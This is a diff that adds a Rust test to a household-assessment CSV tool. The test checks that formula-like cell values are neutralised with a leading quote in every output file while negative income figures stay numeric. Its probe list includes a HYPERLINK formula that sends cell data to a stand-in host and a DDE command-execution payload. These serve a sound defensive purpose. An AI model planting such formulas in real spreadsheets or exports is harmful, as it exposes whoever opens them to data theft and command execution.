@@ -136,3 +136,145 @@ fn unknown_year_without_line_says_how_to_set_one() {
     assert_eq!(o.status.code(), Some(2));
     assert!(text(&o.stderr).contains("--line"), "{}", text(&o.stderr));
 }
+
+/// The probe's formula-like values (issue 20, item 4).
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1",
+    "-1+2",
+    "\tTAB",
+    "\rCR",
+];
+
+/// Whether a cell would be taken for a formula by a spreadsheet (OWASP's list).
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A plain decimal number, as fupin writes counts and amounts.
+fn plain_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix('-').unwrap_or(cell);
+    !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
+}
+
+/// Policy: OWASP CSV injection — text cells starting with = + - @ tab or CR get a leading
+/// `'` in every CSV `fupin assess` writes; numeric columns keep their numbers (a negative
+/// 人均纯收入 stays `-…`).
+#[test]
+fn formula_like_text_is_neutralised_in_every_output_csv() {
+    let tmp = tempfile::tempdir().unwrap();
+    let members = tmp.path().join("members.csv");
+    let mut w = csv::Writer::from_path(&members).unwrap();
+    let header = "户编号,乡镇,行政村,姓名,证件号码,与户主关系,性别,在校生状况,健康状况,劳动技能,是否参加基本医疗保险,是否现役军人,脱贫属性,贫困户属性,主要致贫原因,工资性收入,生产经营性收入,生产经营性支出,财产性收入,转移性收入,人均纯收入,不愁吃,不愁穿,住房安全等级,危房改造状态,易地扶贫搬迁,饮水安全,备注";
+    w.write_record(header.split(',')).unwrap();
+    // Each value as a 户编号, a township, a village and a name; then a household without
+    // errors that spends more than it earns, so its 人均纯收入 is negative.
+    let sound = [
+        "1409300101001",
+        "示例一乡",
+        "示例一乡甲村",
+        "测试户主01",
+        "14093019750312011X",
+    ];
+    for (i, f) in FORMULAS.iter().chain(&[""]).enumerate() {
+        let id_number = format!("2409301975031201{i}X");
+        let (ids, expense) = match *f {
+            "" => (sound.map(String::from), "50000"),
+            f => ([f, f, f, f, &id_number].map(String::from), "1000"),
+        };
+        let mut row: Vec<&str> = ids.iter().map(String::as_str).collect();
+        // As 性别 too: an E103 problem echoes the value.
+        let sex = if f.is_empty() { "男" } else { f };
+        row.extend([
+            "户主",
+            sex,
+            "非在校生",
+            "健康",
+            "普通劳动力",
+            "是",
+            "否",
+            "未脱贫",
+            "一般贫困户",
+            "缺技术",
+            "9000",
+            "3000",
+            expense,
+            "200",
+            "800",
+            "",
+            "是",
+            "是",
+            "A",
+            "无",
+            "否",
+            "是",
+            f,
+        ]);
+        w.write_record(row).unwrap();
+    }
+    w.flush().unwrap();
+    drop(w);
+    let (code, stderr, out) = assess(members.to_str().unwrap(), tmp.path());
+    assert_eq!(code, Some(0), "{stderr}");
+
+    // (file, columns that hold numbers fupin formats)
+    let files: [(&str, &[&str]); 3] = [
+        ("households.csv", &["人数", "人均纯收入", "标准"]),
+        ("villages.csv", &[]),
+        ("problems.csv", &["行号"]),
+    ];
+    let mut negative_amounts = 0;
+    for (name, numeric) in files {
+        let rows = read_csv(&out.join(name));
+        let header = rows[0].clone();
+        for row in &rows[1..] {
+            for (col, cell) in header.iter().zip(row) {
+                if numeric.contains(&col.as_str()) || (name == "villages.csv" && plain_number(cell))
+                {
+                    if cell.starts_with('-') {
+                        assert!(plain_number(cell), "{name} {col}: {cell:?}");
+                        negative_amounts += 1;
+                    }
+                    continue;
+                }
+                assert!(
+                    !formula_like(cell),
+                    "{name} {col}: {cell:?} is not neutralised"
+                );
+            }
+        }
+    }
+    assert!(
+        negative_amounts >= 1,
+        "the negative 人均纯收入 is kept as a number"
+    );
+
+    let households = read_csv(&out.join("households.csv"));
+    let problems = read_csv(&out.join("problems.csv"));
+    let villages = read_csv(&out.join("villages.csv"));
+    // The reader trims a leading tab or CR from a cell (the unit test of `text_cell` has
+    // them); the others arrive whole and leave with a `'`.
+    for f in &FORMULAS[..4] {
+        let quoted = format!("'{f}");
+        assert!(
+            households[1..]
+                .iter()
+                .any(|r| r[0] == quoted && r[1] == quoted),
+            "households.csv has no {quoted:?}: {households:?}"
+        );
+        assert!(
+            villages[1..]
+                .iter()
+                .any(|r| r[0] == quoted && r[1] == quoted),
+            "villages.csv has no {quoted:?}"
+        );
+    }
+    // Raw values echoed in problems.csv (the bad 性别) are text too.
+    assert!(
+        problems[1..]
+            .iter()
+            .any(|r| r[5] == format!("'{}", FORMULAS[0])),
+        "{problems:?}"
+    );
+}
